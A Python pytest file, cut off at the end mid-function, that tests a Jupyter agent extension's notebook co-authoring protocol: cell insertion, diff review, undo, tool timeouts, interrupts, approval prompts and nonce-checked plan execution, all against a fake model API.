"""The co-authoring comm in a real kernel, with the test as the notebook frontend.

The kernel is a real ipykernel process with the extension loaded; the test speaks the frontend
extension's side of the protocol (``labextension/src/protocol.ts``) on the kernel's channels: it
opens the comm on ``jupyter_agent.notebook`` with the notebook's cells, answers the kernel's
operations (``FakeNotebook`` applies them to its list of cells as the extension applies them to
the notebook model), and runs ``%%agent`` cells with the ``cellId`` metadata JupyterLab sends.
The model is the fake Messages API on a loopback port.
"""

from __future__ import annotations

import asyncio
import base64
import json
import re
import threading
import time
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from fake_anthropic import FakeAnthropic, Reply, result_text, text, tool_results, tool_use
from kernel_frontend import Kernel as FrontendKernel

pytestmark = pytest.mark.slow

TARGET = "jupyter_agent.notebook"
HELLO = "jupyter_agent.hello"


class FakeNotebook:
    """The frontend's end: a notebook's cells and the operations the extension applies."""

    def __init__(
        self, kernel: Kernel, cells: list[dict[str, Any]], session: str | None = None
    ) -> None:
        self.kernel = kernel
        self.path = "analysis.ipynb"
        #: The client session this page's kernel connection sends with (another page: another).
        self.session = session
        self.cells = cells
        self.comm_id = uuid.uuid4().hex
        self.ops: list[dict[str, Any]] = []
        self.journal: list[tuple[str, list[dict[str, Any]], float]] = []
        #: How the user answers an edit shown as a diff (True: accept).
        self.decisions: list[bool] = []
        #: Reviews shown (the op, the source its diff was computed on); with ``review_later``
        #: the test answers them itself (``decide``).
        self.shown: list[tuple[dict[str, Any], str]] = []
        self.review_later = False
        self.on_op: Callable[[dict[str, Any]], None] | None = None
        self.labels: dict[str, str] = {}
        self._ids = 0

    def snapshot(self) -> dict[str, Any]:
        return {"path": self.path, "cells": [dict(c) for c in self.cells]}

    def open(self) -> None:
        message = self.kernel.client.session.msg(
            "comm_open",
            {
                "comm_id": self.comm_id,
                "target_name": TARGET,
                "data": {"type": "hello", **self.snapshot()},
            },
        )
        if self.session is not None:
            message["header"]["session"] = self.session
        self.kernel.client.shell_channel.send(message)

    def close(self) -> None:
        """The page goes away (closed or reloaded): the extension closes its comm."""
        message = self.kernel.client.session.msg("comm_close", {"comm_id": self.comm_id})
        if self.session is not None:
            message["header"]["session"] = self.session
        self.kernel.client.shell_channel.send(message)

    def decide(self, shown: int, accepted: bool) -> None:
        op, before = self.shown[shown]
        self.reply({"id": op["id"], "ok": True, "accepted": accepted, "before": before})

    def index(self, cell_id: str) -> int:
        for at, cell in enumerate(self.cells):
            if cell["id"] == cell_id:
                return at
        raise ValueError(f"no cell with id {cell_id}")

    def entry(self, op: dict[str, Any]) -> list[dict[str, Any]]:
        """The turn's journal entry: keyed by the turn (its execute_request), as the extension
        keys it; named by the label the turn began with."""
        key = op.get("turn_id") or op["turn"]
        if not self.journal or self.journal[-1][0] != key:
            self.journal.append((key, [], op["at"]))
            self.labels[key] = op["turn"]
        return self.journal[-1][1]

    def label(self, key: str) -> str:
        return self.labels[key]

    def handle(self, message: dict[str, Any]) -> None:
        if message["msg_type"] != "comm_msg":
            return
        if message["content"].get("comm_id") != self.comm_id:
            return
        op = message["content"]["data"]
        if op.get("type") != "op":
            return
        self.ops.append(op)
        if self.on_op is not None:
            self.on_op(op)
        try:
            result = self.apply(op)
        except Exception as exc:
            if not op.get("noreply"):
                self.reply({"id": op["id"], "ok": False, "error": str(exc)})
            return
        if result is not None and not op.get("noreply"):
            self.reply({"id": op["id"], "ok": True, **result, **self.snapshot()})

    def reply(self, data: dict[str, Any]) -> None:
        message = self.kernel.client.session.msg(
            "comm_msg", {"comm_id": self.comm_id, "data": {"type": "reply", **data}}
        )
        if self.session is not None:
            message["header"]["session"] = self.session
        self.kernel.client.shell_channel.send(message)

    def apply(self, op: dict[str, Any]) -> dict[str, Any] | None:
        kind = op["op"]
        if kind == "snapshot":
            return {}
        if kind == "insert":
            self._ids += 1
            cell_id = f"agent-{self._ids}"
            at = self.index(op["after"]) + 1 if op.get("after") else len(self.cells)
            self.cells.insert(
                at,
                {
                    "id": cell_id,
                    "cell_type": op["cell_type"],
                    "source": op["source"],
                    "execution_count": None,
                    "outputs": [],
                    "agent": True,
                },
            )
            self.entry(op).append({"kind": "insert", "id": cell_id})
            return {"cell_id": cell_id, "index": at}
        if kind == "review":
            before = self.cells[self.index(op["cell_id"])]["source"]
            if op.get("before") != before:  # the diff is shown over its own source only
                raise ValueError(f"cell {op['cell_id']} changed since it was approved")
            self.shown.append((op, before))
            if self.review_later:  # the user decides later (``decide``)
                return None
            accepted = self.decisions.pop(0)
            self.reply({"id": op["id"], "ok": True, "accepted": accepted, "before": before})
            return None
        if kind == "edit":
            cell = self.cells[self.index(op["cell_id"])]
            before = cell["source"]
            if "expect" in op and before != op["expect"]:
                raise ValueError(f"cell {op['cell_id']} changed since it was approved")
            if before.count(op["old_string"]) != 1:
                raise ValueError("old_string is not in the cell once")
            cell["source"] = before.replace(op["old_string"], op["new_string"])
            self.entry(op).append({"kind": "edit", "id": cell["id"], "before": before})
            return {}
        if kind == "run_start":
            cell = self.cells[self.index(op["cell_id"])]
            if "expect" in op and cell["source"] != op["expect"]:
                raise ValueError(f"cell {op['cell_id']} changed since it was approved")
            cell["outputs"], cell["execution_count"] = [], None
            return {"source": cell["source"]}
        if kind in ("outputs", "run_end"):
            cell = self.cells[self.index(op["cell_id"])]
            cell["outputs"] = op["outputs"]
            if kind == "run_end":
                cell["execution_count"] = op["execution_count"]
                return {}
            return None
        if kind == "relabel":
            self.labels[op["turn_id"]] = op["label"]
            return None
        if kind == "peek":
            if not self.journal:
                return {}
            return {"turn": self.label(self.journal[-1][0]), "at": self.journal[-1][2]}
        if kind == "undo":
            if not self.journal:
                return {"undone": False}
            key, steps, _at = self.journal.pop()
            turn = self.label(key)
            for step in reversed(steps):
                if step["kind"] == "insert":
                    del self.cells[self.index(step["id"])]
                else:
                    self.cells[self.index(step["id"])]["source"] = step["before"]
            return {"undone": True, "turn": turn, "message": f"Undid the cells of {turn}."}
        raise ValueError(f"unknown op {kind}")


class Kernel(FrontendKernel):
    """A kernel driven like JupyterLab: cells run with their ids, and every iopub message goes
    to the open notebook (the co-authoring comm's frontend side)."""

    def __init__(self, cwd: Path) -> None:
        super().__init__(cwd)
        self.notebook: FakeNotebook | None = None
        #: Other pages connected to this kernel (their own client sessions).
        self.others: list[FakeNotebook] = []

    def execute(  # type: ignore[override]
        self,
        code: str,
        cell_id: str = "user-cell",
        timeout: float = 60,
        on_message: Callable[[dict[str, Any]], None] | None = None,
        page: FakeNotebook | None = None,
    ) -> tuple[dict[str, Any], list[dict[str, Any]]]:
        """Run ``code`` as cell ``cell_id`` of ``page`` (its client session; default: the
        kernel's own client, the one ``notebook`` opened its comm from)."""
        content = {
            "code": code,
            "silent": False,
            "store_history": True,
            "user_expressions": {},
            "allow_stdin": True,
            "stop_on_error": True,
        }
        message = self.client.session.msg("execute_request", content, metadata={"cellId": cell_id})
        if page is not None and page.session is not None:
            message["header"]["session"] = page.session
        self.client.shell_channel.send(message)
        msg_id = message["header"]["msg_id"]
        outputs: list[dict[str, Any]] = []
        deadline = time.monotonic() + timeout
        while True:
            assert time.monotonic() < deadline, f"timed out running {code!r}: {outputs}"
            try:
                got = self.client.get_iopub_msg(timeout=0.1)
            except Exception:
                continue
            for notebook in [self.notebook, *self.others]:
                if notebook is not None:
                    notebook.handle(got)
            if on_message is not None:
                on_message(got)
            if got["parent_header"].get("msg_id") != msg_id:
                continue
            kind = got["msg_type"]
            if kind in ("stream", "display_data", "update_display_data", "error"):
                outputs.append({"type": kind, **got["content"]})
            if kind == "status" and got["content"]["execution_state"] == "idle":
                break
        while True:
            reply = self.client.get_shell_msg(timeout=10)
            if reply["parent_header"].get("msg_id") == msg_id:
                shown_in = page or self.notebook
                for cell in shown_in.cells if shown_in is not None else []:
                    if cell["id"] == cell_id and code.startswith("%%agent"):  # its number shown
                        cell["execution_count"] = reply["content"].get("execution_count")
                return reply["content"], outputs


def printed(outputs: list[dict[str, Any]]) -> str:
    return "".join(o.get("text", "") for o in outputs if o["type"] == "stream")


@pytest.fixture
def kernel_class() -> type[Kernel]:
    """The shared ``kernel`` fixture, driven as JupyterLab drives it (cell ids, the notebook)."""
    return Kernel


@pytest.fixture
def notebook(kernel: Kernel) -> FakeNotebook:
    """A notebook open in the frontend, connected: a data cell and the %%agent cell."""
    cells = [
        {"id": "data", "cell_type": "code", "source": "rows = [3, 1, 2]", "execution_count": 1},
        {"id": "ask", "cell_type": "code", "source": "%%agent\n...", "execution_count": None},
    ]
    notebook = FakeNotebook(kernel, cells)
    kernel.notebook = notebook
    notebook.open()
    reply, outputs = kernel.execute("rows = [3, 1, 2]", cell_id="data")
    assert reply["status"] == "ok", outputs
    return notebook


def inserted_id(body: dict[str, Any]) -> str:
    """The id of the first code cell the agent inserted, from the results it was sent."""
    found = re.search(r"Inserted code cell (\S+) \(at", json.dumps(body["messages"]))
    assert found, body["messages"]
    return found.group(1)


class ArrivingNotebook(FakeNotebook):
    """A notebook whose frontend connects when the kernel says hello (the extension loading), as
    the extension does: its comm_open then waits on the shell channel behind the running cell."""

    def handle(self, message: dict[str, Any]) -> None:
        content = message["content"]
        if message["msg_type"] == "comm_open" and content.get("target_name") == HELLO:
            self.open()
        super().handle(message)


def test_a_notebook_tools_policy_in_the_load_ext_cell_is_set(tmp_path: Path) -> None:
    """``%agent_tools policy run_cell allow`` in the cell that loads the extension said "Unknown
    tool 'run_cell'": the notebook had not connected yet, its comm waiting behind that cell."""
    kernel = Kernel(tmp_path)
    try:
        first = {"id": "setup", "cell_type": "code", "source": "", "execution_count": None}
        kernel.notebook = ArrivingNotebook(kernel, [first])
        reply, outputs = kernel.execute(
            "%load_ext jupyter_agent\n%agent_tools policy run_cell allow", cell_id="setup"
        )
        assert reply["status"] == "ok", outputs
        assert "run_cell: policy allow" in printed(outputs)
        reply, outputs = kernel.execute(
            "from jupyter_agent.notebook.front.extension import get_magics\n"
            "print(get_magics(get_ipython()).session.get_policy('run_cell'))"
        )
        assert printed(outputs).strip() == "allow", outputs
    finally:
        kernel.close()


def test_without_a_frontend_the_notebook_tools_are_off(
    kernel: Kernel, fake_api: FakeAnthropic
) -> None:
    fake_api.add(text("Nothing to do."))
    reply, outputs = kernel.execute("%agent config")
    assert re.search(r"notebook co-authoring +off \(no frontend extension\)", printed(outputs))
    reply, outputs = kernel.execute("%%agent\nhello")
    assert reply["status"] == "ok", outputs
    names = [tool["name"] for tool in fake_api.requests[0]["tools"]]
    assert "propose_cell" in names
    assert not {"notebook_cells", "insert_cell", "edit_cell", "run_cell"} & set(names)


def test_the_agent_inserts_and_runs_cells_in_the_open_notebook(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
) -> None:
    plot = (
        "import matplotlib\nmatplotlib.use('module://matplotlib_inline.backend_inline')\n"
        "import matplotlib.pyplot as plt\n"
        "total = sum(rows)\nprint('total', total)\nplt.plot(rows)\ntotal * 10"
    )
    fake_api.add(
        Reply([tool_use("t1", "notebook_cells", {})]),
        Reply([tool_use("t2", "insert_cell", {"source": plot})]),
        Reply([tool_use("t3", "insert_cell", {"source": "# Total", "cell_type": "markdown"})]),
        lambda body: Reply([tool_use("t4", "run_cell", {"cell_id": inserted_id(body)})]),
        text("Done."),
    )
    reply, outputs = kernel.execute("%agent config")
    assert re.search(r"notebook co-authoring +on \(analysis.ipynb\)", printed(outputs))
    reply, outputs = kernel.execute("%agent_tools policy run_cell allow")
    assert reply["status"] == "ok", outputs
    reply, outputs = kernel.execute("%%agent\nSum the rows and plot them", cell_id="ask")
    assert reply["status"] == "ok", outputs
    assert not [o for o in outputs if o["type"] == "error"], outputs

    names = [tool["name"] for tool in fake_api.requests[0]["tools"]]
    assert {"notebook_cells", "insert_cell", "edit_cell", "run_cell"} <= set(names)
    assert "delete_cell" not in names  # destructive: disabled until the user enables it
    listing = result_text(tool_results(fake_api.requests[1])[0])
    assert "id=data code, ran as [1]" in listing and "rows = [3, 1, 2]" in listing

    # the cells went in after the %%agent cell, in order, marked as the agent's
    assert [c["id"] for c in notebook.cells] == ["data", "ask", "agent-1", "agent-2"]
    code, markdown = notebook.cells[2], notebook.cells[3]
    assert code["agent"] and markdown["cell_type"] == "markdown"
    # run: outputs placed in the cell with an execution count, none in the %%agent cell
    assert isinstance(code["execution_count"], int)
    kinds = [o["output_type"] for o in code["outputs"]]
    assert kinds == ["stream", "execute_result", "display_data"], code["outputs"]
    assert code["outputs"][0]["text"] == "total 6\n"
    assert code["outputs"][1]["data"]["text/plain"] == "60"
    png = base64.b64decode(code["outputs"][2]["data"]["image/png"])
    assert png.startswith(b"\x89PNG")
    assert "total 6" not in printed(outputs)
    assert not [o for o in outputs if "image/png" in o.get("data", {})]
    # ... and returned to the model, the plot as an image
    result = tool_results(fake_api.requests[4])[-1]
    assert "total 6" in result_text(result) and "60" in result_text(result)
    assert any(part.get("type") == "image" for part in result["content"])
    # the kernel's namespace has what the cell defined
    reply, outputs = kernel.execute("print(total)")
    assert printed(outputs) == "6\n"


def test_an_edit_is_shown_as_a_diff_accepted_or_rejected(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
) -> None:
    notebook.decisions = [True, False]
    fake_api.add(
        Reply(
            [
                tool_use(
                    "t1", "edit_cell", {"cell_id": "data", "old_string": "3", "new_string": "30"}
                )
            ]
        ),
        Reply(
            [
                tool_use(
                    "t2", "edit_cell", {"cell_id": "data", "old_string": "1", "new_string": "10"}
                )
            ]
        ),
        text("Edited."),
    )
    reply, outputs = kernel.execute("%%agent\nScale the data", cell_id="ask")
    assert reply["status"] == "ok", outputs
    reviews = [op for op in notebook.ops if op["op"] == "review"]
    added = [[text for kind, text in op["lines"] if kind == "add"] for op in reviews]
    assert added == [["rows = [30, 1, 2]"], ["rows = [30, 10, 2]"]]
    assert notebook.cells[0]["source"] == "rows = [30, 1, 2]"
    assert [op["op"] for op in notebook.ops].count("edit") == 1
    rejected = result_text(tool_results(fake_api.requests[2])[-1])
    assert "declined" in rejected and "rejected the edit in the notebook" in rejected


def test_undo_puts_back_the_cells_of_the_last_agent_cell(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
) -> None:
    notebook.decisions = [True]
    fake_api.add(
        Reply([tool_use("t1", "insert_cell", {"source": "print('a')"})]),
        Reply(
            [tool_use("t2", "edit_cell", {"cell_id": "data", "old_string": "3", "new_string": "4"})]
        ),
        text("Done."),
    )
    reply, outputs = kernel.execute("%%agent\nWork", cell_id="ask")
    assert reply["status"] == "ok", outputs
    assert [c["id"] for c in notebook.cells] == ["data", "ask", "agent-1"]
    reply, outputs = kernel.execute("%agent undo")
    assert reply["status"] == "ok", outputs
    assert "Undid the cells of cell" in printed(outputs)
    assert [c["id"] for c in notebook.cells] == ["data", "ask"]
    assert notebook.cells[0]["source"] == "rows = [3, 1, 2]"


def test_run_cell_obeys_tool_timeout_and_the_turn_goes_on(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
) -> None:
    # an hour's sleep: the cell ends within the run's safety timeout only if tool_timeout ended it
    fake_api.add(
        Reply([tool_use("t1", "insert_cell", {"source": "import time\ntime.sleep(3600)"})]),
        lambda body: Reply([tool_use("t2", "run_cell", {"cell_id": inserted_id(body)})]),
        text("It was too slow."),
    )
    kernel.execute("%agent_tools policy run_cell allow")
    kernel.execute("%config AgentMagics.tool_timeout = 3")
    reply, outputs = kernel.execute("%%agent\nSleep", cell_id="ask", timeout=60)
    assert reply["status"] == "ok", outputs
    result = result_text(tool_results(fake_api.requests[2])[-1])
    assert "TimeoutError" in result and "tool_timeout" in result
    cell = notebook.cells[2]
    assert cell["outputs"][-1]["ename"] == "TimeoutError"
    reply, outputs = kernel.execute("print('next')")
    assert printed(outputs) == "next\n"


def test_stop_during_a_slow_run_cell_ends_it_at_once(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
) -> None:
    # the cell would sleep for an hour: it ends within the run's safety timeout only if Stop
    # ended it
    source = "print('running', flush=True)\nimport time\ntime.sleep(3600)"
    fake_api.add(
        Reply([tool_use("t1", "insert_cell", {"source": source})]),
        lambda body: Reply([tool_use("t2", "run_cell", {"cell_id": inserted_id(body)})]),
        text("unreachable"),
    )
    kernel.execute("%agent_tools policy run_cell allow")
    pressed = threading.Event()

    def stop_when_running(op: dict[str, Any]) -> None:
        # the extension interrupts the kernel when the agent's Stop is pressed during a run:
        # pressed once the cell's first output shows it is running
        shown = "".join(o.get("text", "") for o in op.get("outputs") or [])
        if op["op"] == "outputs" and "running" in shown and not pressed.is_set():
            pressed.set()
            threading.Thread(target=kernel.manager.interrupt_kernel, daemon=True).start()

    notebook.on_op = stop_when_running
    reply, outputs = kernel.execute("%%agent\nSleep", cell_id="ask", timeout=60)
    assert pressed.is_set(), "the cell's outputs never showed it running"
    assert reply["status"] == "ok", outputs
    assert "interrupted" in printed(outputs).lower()
    cell = notebook.cells[2]
    assert cell["outputs"][-1]["ename"] == "KeyboardInterrupt"
    assert len(fake_api.requests) == 2  # the turn ended: no third request
    reply, outputs = kernel.execute("print('next')")
    assert printed(outputs) == "next\n"


def test_the_running_agent_cell_is_not_run_or_deleted(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
) -> None:
    fake_api.add(
        Reply([tool_use("t1", "run_cell", {"cell_id": "ask"})]),
        Reply([tool_use("t2", "delete_cell", {"cell_id": "ask"})]),
        Reply([tool_use("t3", "run_cell", {"cell_id": "nowhere"})]),
        text("Done."),
    )
    kernel.execute("%agent_tools policy run_cell allow")
    kernel.execute("%agent_tools enable delete_cell")
    kernel.execute("%agent_tools policy delete_cell allow")
    reply, outputs = kernel.execute("%%agent\nRun yourself", cell_id="ask")
    assert reply["status"] == "ok", outputs
    results = [result_text(r) for r in tool_results(fake_api.requests[3])]
    assert "running %%agent cell" in results[0] and "running %%agent cell" in results[1]
    assert "no cell with id nowhere" in results[2]
    assert [c["id"] for c in notebook.cells] == ["data", "ask"]
    # the cell first asks its page for its recorded turn (issue 38), then runs nothing of itself
    assert [op["op"] for op in notebook.ops if op["op"] != "snapshot"] == [
        "turn_record",
        "run_start",
    ]


def test_undo_takes_the_newest_agent_cell_whichever_journal_holds_it(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic, tmp_path: Path
) -> None:
    """A cell that inserted a cell and wrote a file, then one that only wrote a file: the first
    undo takes back the second cell's file alone, the next one the first cell's cell and file."""
    fake_api.add(
        Reply(
            [
                tool_use("t1", "insert_cell", {"source": "print('a')"}),
                tool_use("t2", "write_file", {"file_path": "a.txt", "content": "a"}),
            ]
        ),
        text("First."),
        Reply([tool_use("t3", "write_file", {"file_path": "b.txt", "content": "b"})]),
        text("Second."),
    )
    for prompt in ("One", "Two"):
        time.sleep(1.1)  # the file journal dates its entries to the second
        reply, outputs = kernel.execute(f"%%agent\n{prompt}", cell_id="ask")
        assert reply["status"] == "ok", outputs
    assert (tmp_path / "a.txt").exists() and (tmp_path / "b.txt").exists()
    assert [c["id"] for c in notebook.cells] == ["data", "ask", "agent-1"]

    reply, outputs = kernel.execute("%agent undo")
    assert not (tmp_path / "b.txt").exists(), printed(outputs)
    assert (tmp_path / "a.txt").exists()
    assert [c["id"] for c in notebook.cells] == ["data", "ask", "agent-1"], printed(outputs)

    reply, outputs = kernel.execute("%agent undo")
    assert "Undid the cells of cell" in printed(outputs)
    assert not (tmp_path / "a.txt").exists(), printed(outputs)
    assert [c["id"] for c in notebook.cells] == ["data", "ask"]


def test_a_long_cell_shows_its_output_as_it_comes(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
) -> None:
    slow = "import time\nfor i in range(4):\n    print('tick', i)\n    time.sleep(0.3)"
    fake_api.add(
        Reply([tool_use("t1", "insert_cell", {"source": slow})]),
        lambda body: Reply([tool_use("t2", "run_cell", {"cell_id": inserted_id(body)})]),
        text("Done."),
    )
    kernel.execute("%agent_tools policy run_cell allow")
    reply, outputs = kernel.execute("%%agent\nCount slowly", cell_id="ask")
    assert reply["status"] == "ok", outputs
    progress = [op["outputs"] for op in notebook.ops if op["op"] == "outputs"]
    assert len(progress) >= 2, progress  # placed while the cell still ran
    texts = [stream[0]["text"] for stream in progress]
    assert texts[0].startswith("tick") and texts == sorted(texts, key=len)
    assert any("tick 1" in text and "tick 3" not in text for text in texts)
    final = next(op for op in notebook.ops if op["op"] == "run_end")["outputs"]
    assert final == [
        {"output_type": "stream", "name": "stdout", "text": "tick 0\ntick 1\ntick 2\ntick 3\n"}
    ]


def test_tutorial_07_replayed_inserts_and_runs_its_cells_in_a_connected_notebook(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The tutorial's own cells, in order, with this test as the frontend: its recorded session
    inserts four cells and runs the three code cells — the ``run_cell`` calls name cells whose
    ids exist only in this notebook, taken by the replay from this run's ``insert_cell``
    results (before, the replay sent the ids of the session it was written from)."""
    import shutil

    notebooks = Path(__file__).resolve().parents[3] / "notebooks"
    shutil.copytree(notebooks / "data", tmp_path / "data")
    (tmp_path / "cassettes").mkdir()
    shutil.copy(notebooks / "cassettes" / "07_coauthor.json", tmp_path / "cassettes")
    for name in ("ANTHROPIC_API_KEY", "ANTHROPIC_BASE_URL", "JUPYTER_AGENT_PROVIDER"):
        monkeypatch.delenv(name, raising=False)
    tutorial = json.loads((notebooks / "07_coauthor.ipynb").read_text(encoding="utf-8"))
    cells = [
        {
            "id": cell["id"],
            "cell_type": cell["cell_type"],
            "source": "".join(cell["source"]),
            "execution_count": None,
        }
        for cell in tutorial["cells"]
    ]
    kernel = Kernel(tmp_path)
    notebook = FakeNotebook(kernel, cells)
    kernel.notebook = notebook
    try:
        ask = ""
        for cell in list(cells):
            if cell["cell_type"] != "code":
                continue
            reply, outputs = kernel.execute(cell["source"], cell_id=cell["id"], timeout=120)
            assert reply["status"] == "ok", outputs
            if "%load_ext jupyter_agent" in cell["source"]:
                notebook.open()  # the extension's comm target exists now, as in Lab
            if cell["source"].startswith("%%agent"):
                ask = cell["id"]
                break
            if "notebook_connected" in cell["source"]:
                assert "notebook co-authoring: on" in printed(outputs), outputs
        # the tutorial allowed run_cell for its recorded session only: the code cell after the
        # agent's sets it back to asking, so nothing later in this kernel runs unasked
        ids = [c["id"] for c in tutorial["cells"]]
        after = tutorial["cells"][ids.index(ask) + 1 :]
        restore = next(c for c in after if c["cell_type"] == "code")
        source = "".join(restore["source"])
        reply, outputs = kernel.execute(source, cell_id=restore["id"], timeout=60)
        assert reply["status"] == "ok", outputs
        reply, outputs = kernel.execute("%agent_tools list", timeout=60)
        [line] = [row for row in printed(outputs).splitlines() if "run_cell" in row]
        assert "ask" in line and "allow" not in line, line
    finally:
        kernel.close()
    at = notebook.index(ask)
    made = notebook.cells[at + 1 : at + 5]
    assert [c["cell_type"] for c in made] == ["code", "code", "code", "markdown"], made
    assert all(c["agent"] for c in made)
    runs = [op for op in notebook.ops if op["op"] == "run_start"]
    assert [op["cell_id"] for op in runs] == [c["id"] for c in made[:3]]
    for cell in made[:3]:
        assert isinstance(cell["execution_count"], int), cell
        assert not [o for o in cell["outputs"] if o["output_type"] == "error"], cell["outputs"]
    assert "revenue" in json.dumps(made[1]["outputs"])  # monthly.describe()
    assert any("image/png" in o.get("data", {}) for o in made[2]["outputs"]), made[2]["outputs"]


def test_the_go_button_runs_only_the_plan_it_was_shown_under(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
) -> None:
    """The Go button carries a nonce the kernel made for the plan (``data-agent-go``); the
    extension sends it as ``%agent go --plan NONCE``. Another nonce (a forged button, an older
    plan's) runs nothing and the plan stays pending; the plan's own runs it."""
    fake_api.add(text("1. Scale the rows"), text("Scaled."))
    reply, outputs = kernel.execute("%%agent --plan\nScale the rows", cell_id="ask")
    assert reply["status"] == "ok", outputs
    [html] = [o["data"]["text/html"] for o in outputs if "jp-agent-go" in str(o.get("data"))]
    found = re.search(r"data-agent-go='([0-9a-f]{32})'", html)
    assert found, html
    nonce = found.group(1)

    other = "0" * 32 if nonce != "0" * 32 else "1" * 32
    reply, outputs = kernel.execute(f"%agent go --plan {other}", cell_id="forged")
    assert reply["status"] == "error"
    assert "not the pending plan's" in json.dumps(outputs), outputs
    assert len(fake_api.requests) == 1  # nothing was sent

    reply, outputs = kernel.execute(f"%agent go --plan {nonce}", cell_id="go")
    assert reply["status"] == "ok", outputs
    assert len(fake_api.requests) == 2
    assert "Scaled." in json.dumps(outputs)
    # carried out: the same button again finds no plan
    reply, outputs = kernel.execute(f"%agent go --plan {nonce}", cell_id="again")
    assert reply["status"] == "error"
    assert "No plan to carry out" in json.dumps(outputs), outputs


_RUN_IMPORTS = (
    "from jupyter_agent.notebook.coauthor.link import link_for\n"
    "from jupyter_agent.notebook.coauthor.cell_run import run_cell_now\n"
)
_RUN_DATA_CELL = (
    _RUN_IMPORTS + "print('ran as', run_cell_now(link_for(get_ipython()), 'data', None)[2])"
)


def test_a_user_edit_not_yet_announced_is_what_run_cell_runs(
    kernel: Kernel, notebook: FakeNotebook
) -> None:
    """The source run is the one the notebook holds when the run starts, not the kernel's copy:
    an edit the frontend has not announced yet (it announces 300 ms after the last change)."""
    notebook.cells[0]["source"] = "rows = [7]\nprint('edited', rows)"  # the user typed this
    reply, outputs = kernel.execute(_RUN_DATA_CELL, cell_id="other")
    assert reply["status"] == "ok", outputs
    assert printed(outputs).startswith("ran as "), outputs
    cell = notebook.cells[0]
    assert cell["outputs"] == [{"output_type": "stream", "name": "stdout", "text": "edited [7]\n"}]
    assert isinstance(cell["execution_count"], int)


def test_the_notebooks_answer_is_taken_without_the_kernels_dispatch(
    kernel: Kernel, notebook: FakeNotebook
) -> None:
    """The reply to ``run_start`` is read by the co-author itself while it waits, not handed
    to ipykernel's shell dispatch, whose comm handling fired the shell's ``pre_execute`` and
    ``post_execute`` events (matplotlib's flush among them) for it: ~0.8 ms of the ~2.4 ms
    ``run_cell`` added to a trivial cell (benchmark figure 20)."""
    code = (
        "_fired = []\n"
        "_hook = lambda *a: _fired.append(1)\n"
        "get_ipython().events.register('post_execute', _hook)\n"
        "try:\n"
        + "".join(f"    {line}\n" for line in _RUN_IMPORTS.splitlines())
        + "    _count = run_cell_now(link_for(get_ipython()), 'data', None)[2]\n"
        "finally:\n"
        "    get_ipython().events.unregister('post_execute', _hook)\n"
        "print('events', len(_fired), 'count', _count)"
    )
    reply, outputs = kernel.execute(code, cell_id="other")
    assert reply["status"] == "ok", outputs
    assert printed(outputs) == f"events 0 count {notebook.cells[0]['execution_count']}\n"
    assert notebook.cells[0]["outputs"] == []  # rows = [3, 1, 2] prints nothing
    # the kernel's own comm handling still takes the notebook's other messages
    notebook.cells[0]["source"] = "rows = [5]"
    notebook.kernel.send_comm(notebook.comm_id, {"type": "cells", **notebook.snapshot()})
    reply, outputs = kernel.execute(
        "from jupyter_agent.notebook.coauthor.link import link_for\n"
        "print(link_for(get_ipython()).cells[0]['source'])"
    )
    assert printed(outputs) == "rows = [5]\n"


def test_answers_nobody_waits_for_are_not_kept(kernel: Kernel, notebook: FakeNotebook) -> None:
    """``run_end`` and the progress ``outputs`` are not waited for; their answers (each with the
    whole notebook, from the extension) were kept in the link forever, one per run."""
    for _ in range(3):
        reply, outputs = kernel.execute(_RUN_DATA_CELL, cell_id="other")
        assert reply["status"] == "ok", outputs
    time.sleep(0.2)  # the last run_end's answer, if one comes, reaches the kernel
    reply, outputs = kernel.execute(
        "from jupyter_agent.notebook.coauthor.link import link_for\n"
        "print('kept', len(link_for(get_ipython())._replies))"
    )
    assert printed(outputs) == "kept 0\n"
    ends = [op for op in notebook.ops if op["op"] == "run_end"]
    assert len(ends) == 3 and all(op.get("noreply") for op in ends)


def test_an_answer_through_a_subshell_reaches_the_waiting_run(
    kernel: Kernel, notebook: FakeNotebook
) -> None:
    """JupyterLab 4 sends comm messages with a subshell id (one subshell per comm target);
    ``request`` waits on the main shell socket, so the answer must reach it there. (That it ends
    the wait at once, not when a 50 ms poll runs out, is benchmark figure 20's goal.)"""
    client = kernel.client
    client.control_channel.send(client.session.msg("create_subshell_request", {}))
    subshell = client.get_control_msg(timeout=10)["content"]["subshell_id"]

    def reply(data: dict[str, Any]) -> None:
        message = client.session.msg(
            "comm_msg", {"comm_id": notebook.comm_id, "data": {"type": "reply", **data}}
        )
        message["header"]["subshell_id"] = subshell  # as JupyterLab 4 sends comm messages
        client.shell_channel.send(message)

    notebook.reply = reply  # type: ignore[method-assign]
    for _ in range(3):
        reply_content, outputs = kernel.execute(_RUN_DATA_CELL, cell_id="other")
        assert reply_content["status"] == "ok", outputs
        assert printed(outputs).startswith("ran as "), printed(outputs)
    assert [op["op"] for op in notebook.ops].count("run_start") == 3


# -- what is approved is what runs (issue 33.7) ------------------------------------------------


def answer_prompts(
    kernel: Kernel, seen: list[str], before_click: list[Callable[[], None]] | None = None
) -> Callable[[dict[str, Any]], None]:
    """``on_message``: keep the text every widget shows (the approval prompt's arguments), and
    click each prompt's Approve, after calling the next of ``before_click`` (the user's edit)."""
    clicked: set[str] = set()

    def on_message(message: dict[str, Any]) -> None:
        if message["msg_type"] not in ("comm_open", "comm_msg"):
            return
        data = message["content"].get("data") or {}
        state = data.get("state") or {}
        if isinstance(state.get("value"), str):
            seen.append(state["value"])
        comm_id = message["content"]["comm_id"]
        if (
            message["msg_type"] == "comm_open"
            and state.get("_model_name") == "ButtonModel"
            and state.get("description") == "Approve"
            and comm_id not in clicked
        ):
            clicked.add(comm_id)
            if before_click:
                before_click.pop(0)()
            kernel.send_comm(comm_id, {"method": "custom", "content": {"event": "click"}})

    return on_message


def test_run_cell_asks_with_the_source_that_runs_and_asks_again_after_an_edit(
    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
